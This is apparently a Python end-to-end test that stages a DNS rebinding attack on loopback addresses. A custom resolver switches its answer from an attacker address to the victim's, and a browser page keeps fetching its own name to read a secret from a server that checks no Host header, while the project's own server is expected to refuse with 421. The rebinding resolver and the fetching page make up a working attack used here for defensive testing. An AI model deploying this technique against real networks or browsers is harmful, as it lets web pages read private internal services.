"""DNS rebinding against two servers, one of which checks no Host: run where there is no network (see test_hostile_rebinding).

Our own resolver first answers 127.0.0.2, where the attacker serves a page; after some seconds it answers 127.0.0.1, and
the attacker's server goes away. The page keeps asking its own name.
"""

from __future__ import annotations

import json
import shutil
import socket
import struct
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from playwright.sync_api import Page, sync_playwright

from e2e.harness.service import Service

OURS, OPEN = 8733, 8750
SWITCH, GONE, UNTIL = 8.0, 25.0, float(sys.argv[2]) if len(sys.argv) > 2 else 130.0
ATTACKER, VICTIM = "127.0.0.2", "127.0.0.1"
SECRET = b'{"secret": "anybody can read this"}'

PAGE = """<!DOCTYPE html><title>harmless</title><script>
const answers = [];
async function ask(path) {
  try {
    const response = await fetch(path, { cache: "no-store", signal: AbortSignal.timeout(3000) });
    answers.push([path, response.status, (await response.text()).slice(0, 300)]);
  } catch (error) { answers.push([path, 0, String(error)]); }
}
const paths = ["/api/v1/hello", "/", "/api/v1/openapi.json", "/api/v1/exchanges", "/secret"];
let turn = 0;
setInterval(() => { ask(paths[turn++ % paths.length]); }, 700);
</script>"""


class Resolver(threading.Thread):
    """Answers every A question, with no time to live; what it answers changes."""

    def __init__(self) -> None:
        super().__init__(daemon=True)
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.bind(("127.0.0.53", 53))
        self._first_asked: float | None = None
        self.asked = 0

    def run(self) -> None:
        """Answer until the process ends."""
        while True:
            data, sender = self._socket.recvfrom(2048)
            self._socket.sendto(self._answer(data), sender)

    def _answer(self, question: bytes) -> bytes:
        end = question.index(b"\x00", 12) + 5
        kind = struct.unpack(">H", question[end - 4 : end - 2])[0]
        head = question[:2] + b"\x81\x80" + question[4:6] + (b"\x00\x01" if kind == 1 else b"\x00\x00") + b"\x00" * 4
        if kind != 1:
            return head + question[12:end]
        self.asked += 1
        self._first_asked = self._first_asked or time.monotonic()
        address = ATTACKER if time.monotonic() - self._first_asked < SWITCH else VICTIM
        record = b"\xc0\x0c\x00\x01\x00\x01\x00\x00\x00\x00\x00\x04" + socket.inet_aton(address)
        return head + question[12:end] + record


def serve(address: str, port: int, body: bytes, kind: str) -> ThreadingHTTPServer:
    """Serve ``body`` at every path, to every Host."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", kind)
            self.send_header("Connection", "close")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_arguments: object) -> None:
            """Stay quiet."""

    server = ThreadingHTTPServer((address, port), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def attack() -> dict[str, object]:
    """Run the attack on both servers at once; return what the pages were answered."""
    resolver = Resolver()
    resolver.start()
    victim = serve(VICTIM, OPEN, SECRET, "application/json")
    attackers = [serve(ATTACKER, port, PAGE.encode(), "text/html") for port in (OURS, OPEN)]
    with sync_playwright() as playwright:
        found = shutil.which("chromium")
        browser = playwright.chromium.launch(
            executable_path=found, channel=None if found else "chromium", args=["--no-sandbox", "--disable-gpu"]
        )
        pages = {name: browser.new_page() for name in ("ours", "open")}
        pages["ours"].goto(f"http://ours.rebind.test:{OURS}/")
        pages["open"].goto(f"http://open.rebind.test:{OPEN}/")
        report = _watch(pages, attackers)
        browser.close()
    victim.shutdown()
    return {**report, "questions": resolver.asked}


def _watch(pages: dict[str, Page], attackers: list[ThreadingHTTPServer]) -> dict[str, object]:
    started, read_after, alive = time.monotonic(), None, True
    answers: dict[str, list[list[object]]] = {}
    while time.monotonic() - started < UNTIL:
        pages["ours"].wait_for_timeout(1000)
        answers = {name: page.evaluate("answers") for name, page in pages.items()}
        if alive and time.monotonic() - started > GONE:
            for server in attackers:
                server.shutdown()
                server.server_close()
            alive = False
        if read_after is None and any("anybody can read" in str(answer[2]) for answer in answers["open"]):
            read_after = round(time.monotonic() - started)
        # Ours is asked on for as long again after the open server has been read.
        if read_after is not None and time.monotonic() - started > read_after + 30:
            break
    foreign = [answer for answer in answers["ours"] if "harmless" not in str(answer[2])]
    return {
        "read_after": read_after,
        "ours_reached": sum(answer[1] == 421 for answer in foreign),
        "ours_read": [answer for answer in foreign if answer[1] not in (0, 421)],
    }


def main() -> None:
    """Start our server, run the attack, and write what came of it."""
    folder = Path(sys.argv[1])
    service = Service(home=folder / "home", port=OURS)
    service.start()
    try:
        report = attack()
    finally:
        service.stop()
    (folder / "report.json").write_text(json.dumps(report), encoding="utf-8")


if __name__ == "__main__":
    main()
